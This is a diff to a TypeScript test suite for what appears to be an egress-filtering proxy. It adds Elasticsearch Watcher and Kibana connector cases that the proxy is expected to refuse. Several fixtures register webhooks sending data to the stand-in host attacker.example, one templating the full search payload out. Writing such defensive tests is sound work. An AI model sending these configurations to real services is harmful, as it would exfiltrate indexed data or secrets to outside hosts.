@@ -238,7 +238,7 @@ const dav = await startUpstream(t, {
     // admission webhooks, Microsoft Graph subscriptions, Twilio's status callbacks): the service
     // sends to the URL registered, later and on its own.
     // (GitHub's `PATCH …/hooks/{id}/config` moves a hook; a job API takes its callback in the query; WebSub's hub.callback.)
-    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhook_endpoints|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub)$/.test(src)) {
+    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhook_endpoints|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub|connector)$/.test(src)) {
       const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded');
       const walk = (v: unknown, key = ''): void => {
         // (A job API here calls back whatever URL it is given, under any name.)
@@ -248,6 +248,17 @@ const dav = await startUpstream(t, {
       walk(Object.fromEntries(new URL(req.url ?? '/', 'http://x').searchParams));
       if (body.length) walk(form ? Object.fromEntries(new URLSearchParams(body.toString())) : JSON.parse(body.toString()));
       return void res.writeHead(201, { 'content-length': 0 }).end();
+    }
+    // Elasticsearch Watcher: on schedule, the watch searches its input indices and sends its webhook (or writes its index).
+    if ((req.method === 'PUT' || req.method === 'POST') && /^\/_watcher\/watch\/[^/]+(?:\/_execute)?$/.test(src)) {
+      const o = JSON.parse(body.toString()) as { watch?: unknown };
+      const w = (o.watch ?? o) as { input?: { search?: { request?: { indices?: string[] } } }; actions?: Record<string, { webhook?: { scheme?: string; host: string; port?: number; path?: string }; index?: { index: string } }> };
+      for (const i of w.input?.search?.request?.indices ?? []) esRan.push(`watch-search ${i}`);
+      for (const a of Object.values(w.actions ?? {})) {
+        if (a.webhook) sentTo.push(`${a.webhook.scheme ?? 'http'}://${a.webhook.host}:${a.webhook.port ?? 80}${a.webhook.path ?? '/'}`);
+        if (a.index) esRan.push(`watch-index ${a.index.index}`);
+      }
+      return void res.writeHead(201, { 'content-length': 2 }).end('ok');
     }
     // Stored scripts, which a reindex or an ingest pipeline runs by id.
     const stored = /^\/_scripts\/([^/]+)$/.exec(src);
@@ -1128,6 +1139,7 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: `http://allowed.example:${dav.port}/ok/ci`, content_type: 'json' } })],
     ['POST', '/ok/v1/links', json, JSON.stringify({ url: 'https://attacker.example/shortened' })],
     ['GET', '/%3Cok-%7Bnow%7D%3E/_search', '', ''],
+    ['PUT', '/_watcher/watch/fine', json, JSON.stringify({ trigger: { schedule: { interval: '1h' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { ping: { webhook: { scheme: 'http', host: 'allowed.example', port: dav.port, method: 'post', path: '/ok/ping' } } } })],
   ] as const) {
     t.match(await send(method, path, type, body, false), /^HTTP\/1\.1 (?:20\d|404 Not Found)/, `control: ${method} ${path} ${body.slice(0, 80)} goes through (forwarded)`);
   }
@@ -1161,6 +1173,13 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     ['GET', '/%3C%7Bnow%7D%3E/_search', '', ''],
     ['POST', '/ok/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', json, JSON.stringify({ webhooks: [{ name: 'x.example', clientConfig: { url: 'https://attacker.example/admit' }, rules: [{ operations: ['CREATE'], resources: ['secrets'] }] }] })],
     ['POST', '/ok/2010-04-01/Accounts/AC1/Messages.json', 'application/x-www-form-urlencoded', 'To=%2B15550100&Body=hi&StatusCallback=https%3A%2F%2Fattacker.example%2Fsms'],
+    // Elasticsearch Watcher: the watch reads what its input names and sends its payload where its webhook says.
+    ['PUT', '/_watcher/watch/w1', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['deny'] } } }, actions: { ping: { webhook: { host: 'allowed.example', port: dav.port, path: '/ok/ping' } } } })],
+    ['PUT', '/_watcher/watch/w2', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { out: { webhook: { scheme: 'https', host: 'attacker.example', port: 443, method: 'post', path: '/x', body: '{{#toJson}}ctx.payload{{/toJson}}' } } } })],
+    ['POST', '/_watcher/watch/_execute', json, JSON.stringify({ watch: { trigger: { schedule: { interval: '1m' } }, input: { simple: {} }, actions: { out: { webhook: { host: 'attacker.example', port: 80, path: '/y' } } } } })],
+    ['PUT', '/_watcher/watch/w3', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { copy: { index: { index: 'deny' } } } })],
+    ['PUT', '/_watcher/watch/w4', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { out: { webhook: { host: '{{ctx.metadata.h}}', port: 80, path: '/' } } } })],
+    ['POST', '/ok/api/actions/connector', json, JSON.stringify({ name: 'x', connector_type_id: '.webhook', config: { url: 'https://attacker.example/kibana', method: 'post' } })],
     ['PATCH', '/ok/repos/a/b/hooks/1/config', json, JSON.stringify({ url: 'https://attacker.example/moved', content_type: 'json' })],
     ['POST', '/ok/v1/jobs?callback_url=https%3A%2F%2Fattacker.example%2Fdone', json, JSON.stringify({ input: 'x' })],
     ['POST', '/ok/hub', 'application/x-www-form-urlencoded', 'hub.mode=subscribe&hub.topic=https%3A%2F%2Fallowed.example%2Ffeed&hub.callback=https%3A%2F%2Fattacker.example%2Fwebsub'],
@@ -1208,7 +1227,7 @@ t.test('property: a configuration that has the server send elsewhere later (buck
       const [res] = parseResponses(await send(method, path, type, body, tunnel));
       return res?.status === 403 && isProblem(res) && sentTo.length === sent;
     },
-  ), { numRuns: Math.min(numRuns, 12), ...seed });
+  ), { numRuns: Math.min(numRuns, 8), ...seed });
 });
 
 t.test('property: a registry blob mount from another repository is decided as a read of that repository\'s blob', async (t) => {
